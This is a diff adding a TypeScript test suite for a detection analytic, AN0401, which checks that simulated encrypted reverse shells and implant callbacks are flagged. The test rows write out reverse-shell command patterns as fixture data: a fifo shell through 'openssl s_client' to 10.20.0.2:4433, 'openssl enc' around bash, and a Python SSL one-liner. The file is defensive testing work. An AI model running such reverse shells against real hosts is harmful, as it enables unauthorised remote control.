@@ -1,0 +1,222 @@
+/** What AN0401 must find, each with its names and with every name made up. */
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { describe, it } from 'node:test';
+import { aes, chacha20, rc4 } from './testing/ciphertext.ts';
+import { helloBytes } from './testing/client-hello.ts';
+import { EPOCH, fifo, keyOf, nullFd, pipe, Scene, serverHello, ttyFd } from './testing/scene.ts';
+
+interface Row {
+  readonly name: string;
+  /** Returns when the finding must be there at the latest, ms after the session began. */
+  readonly play: (scene: Scene) => void;
+  readonly within?: number;
+  readonly legs: readonly string[];
+  readonly actor?: number;
+  /** What identifies the program cannot be renamed away in this row without leaving nothing to see. */
+  readonly keepNames?: boolean;
+}
+
+function fifoShell(scene: Scene, hello: Uint8Array, argv: readonly string[] = ['sh', '-i']): void {
+  scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash'], parentPid: 50 });
+  scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/bash', argv, stdio: [fifo(7), pipe(1), pipe(1)], at: 5 });
+  scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 's_client', '-quiet', '-connect', '10.20.0.2:4433'], stdio: [pipe(1), fifo(7), nullFd], at: 6 });
+  scene.map(102, 'libssl.so.3', 8);
+  scene.map(102, 'libcrypto.so.3', 9);
+  scene.net({ pid: 102, at: 30, startedAt: 20, tx: hello });
+  scene.net({ pid: 102, at: 40, startedAt: 20, tx: hello, rx: serverHello, rxBytes: 2400, turns: 1, snapshots: 1 });
+}
+
+function python(scene: Scene, argv: readonly string[], hello: Uint8Array, mapped = true): void {
+  scene.start({ pid: 200, parentPid: 50, path: '/usr/bin/python3.11', argv });
+  if (mapped) {
+    scene.map(200, '_ssl.cpython-311-x86_64-linux-gnu.so', 45);
+    scene.map(200, 'libssl.so.3', 46);
+    scene.map(200, 'libcrypto.so.3', 47);
+  }
+  scene.net({ pid: 200, at: 61, startedAt: 60, tx: hello });
+}
+
+function implant(scene: Scene, bytes: Uint8Array, protocol: 'tcp' | 'udp' = 'tcp'): void {
+  scene.start({ pid: 300, parentPid: 50, path: '/opt/vendor/agentd', argv: ['agentd'] });
+  scene.net({ pid: 300, at: 20, startedAt: 10, tx: bytes, port: 9000, more: { protocol } });
+}
+
+const code = "import ssl,socket;c=ssl.create_default_context();c.check_hostname=False;s=c.wrap_socket(socket.create_connection(('10.20.0.2',4433)))";
+
+const rows: readonly Row[] = [
+  {
+    name: 'a shell over a fifo to openssl s_client, to an address',
+    play: (scene) => fifoShell(scene, helloBytes('opensslAddress')),
+    legs: ['unexpected-process', 'crypto-evidence', 'outbound-session', 'joined-shell', 'abnormal-bytes'],
+    actor: 101,
+  },
+  {
+    name: 'a shell over a fifo to openssl s_client that names a well-known server',
+    play: (scene) => fifoShell(scene, helloBytes('opensslName')),
+    legs: ['joined-shell', 'abnormal-bytes'],
+    actor: 101,
+  },
+  {
+    name: 'a bare shell without -i',
+    play: (scene) => fifoShell(scene, helloBytes('opensslAddress'), ['bash']),
+    legs: ['joined-shell'],
+    actor: 101,
+    keepNames: true,
+  },
+  {
+    name: 'cat fifo | sh | openssl > fifo, where cat opens the fifo on a descriptor that is not seen',
+    play: (scene) => {
+      scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '-c', 'x'], parentPid: 50 });
+      scene.start({ pid: 103, parentPid: 100, path: '/usr/bin/cat', argv: ['cat', '/tmp/f'], stdio: [ttyFd, pipe(2), ttyFd] });
+      scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/dash', argv: ['/bin/sh', '-i'], stdio: [pipe(2), pipe(1), pipe(1)] });
+      scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 's_client'], stdio: [pipe(1), fifo(7), ttyFd] });
+      scene.map(102, 'libcrypto.so.3', 9);
+      scene.net({ pid: 102, at: 30, startedAt: 20, tx: helloBytes('opensslAddress') });
+    },
+    legs: ['joined-shell'],
+    actor: 101,
+  },
+  {
+    name: 'bash with the socket, openssl enc both ways around a shell',
+    play: (scene) => {
+      scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '-c', 'x'], parentPid: 50 });
+      scene.net({ pid: 100, at: 10, socket: 'socket:9' });
+      const inet = { type: 'inet', object: 'socket:9', remote: { address: '10.20.0.2', port: 4433 } } as const;
+      scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 'enc', '-d'], stdio: [inet, pipe(1), nullFd], at: 12 });
+      scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/bash', argv: ['bash', '-i'], stdio: [pipe(1), pipe(2), pipe(2)], at: 13 });
+      scene.start({ pid: 103, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 'enc'], stdio: [pipe(2), inet, nullFd], at: 14 });
+      scene.map(101, 'libcrypto.so.3', 15);
+      scene.map(103, 'libcrypto.so.3', 15);
+      const salted = Buffer.concat([Buffer.from('Salted__'), aes(72)]);
+      scene.net({ pid: 103, at: 30, startedAt: 10, socket: 'socket:9', tx: new Uint8Array(salted), more: { direction: 'unknown', inherited: true } });
+    },
+    legs: ['joined-shell', 'abnormal-bytes', 'crypto-evidence'],
+    actor: 102,
+  },
+  {
+    name: 'python -c with ssl to an address',
+    play: (scene) => python(scene, ['python3', '-c', code], helloBytes('pythonAddress')),
+    legs: ['unexpected-process', 'crypto-evidence', 'outbound-session', 'abnormal-bytes'],
+    actor: 200,
+  },
+  {
+    name: 'python running a script from no package, with ssl to an address',
+    play: (scene) => python(scene, ['python3', '/home/u/tool.py'], helloBytes('pythonAddress')),
+    legs: ['unexpected-process', 'crypto-evidence', 'abnormal-bytes'],
+    keepNames: true,
+  },
+  {
+    name: 'python reading its code from a pipe',
+    play: (scene) => python(scene, ['python3', '-'], helloBytes('pythonAddress')),
+    legs: ['unexpected-process', 'abnormal-bytes'],
+    keepNames: true,
+  },
+  {
+    name: 'python with ssl that names a server nobody looked up',
+    play: (scene) => {
+      scene.start({ pid: 40, path: '/usr/bin/curl', argv: ['curl'] });
+      scene.resolve(40, 1);
+      python(scene, ['python3', '-c', code], helloBytes('pythonName'));
+    },
+    legs: ['unexpected-process', 'crypto-evidence', 'abnormal-bytes'],
+    keepNames: true,
+  },
+  {
+    name: 'python with ssl that names its server, once it answers commands',
+    play: (scene) => {
+      python(scene, ['python3', '-c', code], helloBytes('pythonName'));
+      const tx = helloBytes('pythonName');
+      const common = { pid: 200, startedAt: 60, tx, rx: serverHello };
+      scene.net({ ...common, at: 80, txBytes: 600, rxBytes: 2500, turns: 3, snapshots: 1 });
+      for (let i = 1; i <= 3; i++) {
+        scene.net({ ...common, at: 80 + 1000 * i, txBytes: 600 + 900 * i, rxBytes: 2500 + 40 * i, turns: 3 + 2 * i, snapshots: 1 + i, rxAt: 70 + 1000 * i, txAt: 79 + 1000 * i });
+      }
+    },
+    within: 2100,
+    legs: ['asymmetry', 'unexpected-process'],
+    keepNames: true,
+  },
+  {
+    name: 'python that pipes its TLS session into a shell, however well the server is named',
+    play: (scene) => {
+      python(scene, ['python3', '/home/u/app.py'], helloBytes('urllibName'));
+      const tx = helloBytes('urllibName');
+      scene.net({ pid: 200, startedAt: 60, at: 80, tx, rx: serverHello, txBytes: 600, rxBytes: 2500, turns: 3, snapshots: 1 });
+      scene.start({ pid: 201, parentPid: 200, path: '/usr/bin/dash', argv: ['/bin/sh', '-i'], stdio: [pipe(1), pipe(2), pipe(2)], at: 90 });
+      scene.net({ pid: 200, startedAt: 60, at: 1000, tx, rx: serverHello, txBytes: 1600, rxBytes: 2560, turns: 5, snapshots: 2 });
+    },
+    within: 1000,
+    legs: ['joined-shell', 'asymmetry'],
+    actor: 200,
+    keepNames: true,
+  },
+  { name: 'python with RC4 of its own over TCP, no crypto library at all', play: (scene) => python(scene, ['python3', '-c', 'x = 1; y = (2)'], rc4(160), false), legs: ['crypto-evidence', 'abnormal-bytes'] },
+  { name: 'python with AES of its own, length before the ciphertext', play: (scene) => python(scene, ['python3', '/srv/x.py'], new Uint8Array([0, 0, 0, 96, ...aes(96)]), false), legs: ['abnormal-bytes'] },
+  { name: 'perl -e sending base64 of ciphertext', play: (scene) => {
+      scene.start({ pid: 200, path: '/usr/bin/perl', argv: ['perl', '-e', 'use Socket; connect(S, $a); print 1'] });
+      scene.net({ pid: 200, at: 5, tx: new TextEncoder().encode(`${Buffer.from(aes(120)).toString('base64')}\n`) });
+    }, legs: ['crypto-evidence', 'abnormal-bytes'] },
+  { name: 'an unpackaged static implant sending AES over TCP', play: (scene) => implant(scene, aes(256)), legs: ['unexpected-process', 'crypto-evidence', 'abnormal-bytes'], actor: 300 },
+  { name: 'the same with RC4', play: (scene) => implant(scene, rc4(200)), legs: ['abnormal-bytes'] },
+  { name: 'the same with ChaCha20 over UDP', play: (scene) => implant(scene, chacha20(120), 'udp'), legs: ['abnormal-bytes'] },
+  { name: 'the same with 40 bytes only', play: (scene) => implant(scene, aes(40)), legs: ['abnormal-bytes'] },
+  { name: 'ciphertext behind a gzip header', play: (scene) => implant(scene, new Uint8Array([31, 139, 8, 0, 0, 0, 0, 0, 0, 3, ...aes(300, 4)])), legs: ['abnormal-bytes'] },
+  {
+    name: 'an implant in memory that speaks TLS without name, six callbacks a minute apart',
+    play: (scene) => {
+      scene.start({ pid: 300, parentPid: 50, path: '/memfd:x', argv: ['[kworker/0:1]'], memfd: true });
+      for (let i = 0; i < 6; i++) scene.tls(300, 60_000 * i + 10, helloBytes('opensslAddress'), { socket: `socket:${i}` });
+    },
+    legs: ['unexpected-process', 'abnormal-bytes'],
+  },
+  {
+    name: 'an unpackaged TLS client without name, by its cadence: 60 s ± 30 s',
+    play: (scene) => {
+      scene.start({ pid: 300, parentPid: 50, path: '/opt/x/agent', argv: ['agent'] });
+      const times = [0, 52, 131, 168, 241, 297];
+      times.forEach((time, i) => {
+        scene.tls(300, time * 1000 + 10, helloBytes('nodeAddress'), { socket: `socket:${i}` }, [300, 200]);
+      });
+    },
+    within: 297_100,
+    legs: ['cadence', 'abnormal-bytes'],
+  },
+];
+
+/** Made-up names of the same depth; places that anybody may write to are not used, so nothing is added but "no package". */
+function madeUp(path: string): string {
+  const word = createHash('sha256').update(path).digest('hex').slice(0, 8);
+  return path.startsWith('/') ? `/opt/${word}` : word;
+}
+
+describe('AN0401 finds', () => {
+  for (const row of rows) {
+    it(row.name, () => {
+      const scene = new Scene();
+      row.play(scene);
+      const found = scene.verdicts[0];
+      assert.ok(found, explain(scene));
+      assert.ok(found.confidence >= 0.5, explain(scene));
+      const seen = (scene.last?.legs ?? []).filter((leg) => leg.state === 'seen').map((leg) => leg.leg);
+      for (const leg of row.legs) assert.ok(seen.includes(leg), `${leg} not seen: ${explain(scene)}`);
+      if (row.actor !== undefined) assert.equal(found.actor, keyOf(row.actor));
+      const began = Math.min(...(found.sessions ?? []).map((session) => session.startedAt));
+      assert.ok(found.time - began <= (row.within ?? 2000), `told ${found.time - began} ms after the session began`);
+      assert.equal(new Set(scene.verdicts.map((verdict) => verdict.uid)).size, 1, 'one case, one finding');
+      assert.deepEqual(scene.analytic.faults(), {});
+      assert.ok(found.firstSeen >= EPOCH && found.participants.includes(found.actor));
+    });
+    if (row.keepNames !== true) {
+      it(`${row.name}, with every name made up`, () => {
+        const scene = new Scene({}, madeUp);
+        row.play(scene);
+        assert.ok((scene.verdicts[0]?.confidence ?? 0) >= 0.5, explain(scene));
+      });
+    }
+  }
+});
+
+function explain(scene: Scene): string {
+  return JSON.stringify(scene.last?.legs ?? 'nothing was told', null, 1);
+}
